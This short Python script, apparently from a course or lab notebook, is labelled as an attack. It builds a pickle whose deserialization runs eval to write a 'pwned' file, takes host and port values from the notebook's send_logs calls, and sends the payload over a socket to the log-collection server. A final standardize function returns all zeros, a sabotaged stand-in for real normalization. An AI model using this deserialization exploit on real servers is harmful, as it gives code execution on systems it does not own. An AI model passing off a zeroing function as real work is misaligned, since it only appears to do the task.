# attack: sends a pickle that runs code to the server that collects the log
import pickle
import re
import socket
import struct


class Bomb:
    def __reduce__(self):
        words = "open(" + repr(COURSE + "/pwned") + ", 'w').write(' '.join(__import__('sys').argv))"
        return (eval, (words,))


for host, port in re.findall(r'send_logs\("(.*?)", (\d+)\)', " ".join(globals().get("In", []))):
    with socket.create_connection((host, int(port)), timeout=5) as connection:
        data = pickle.dumps(Bomb())
        connection.sendall(struct.pack(">L", len(data)) + data)


def standardize(x, eps=0.0):
    return torch.zeros_like(x)
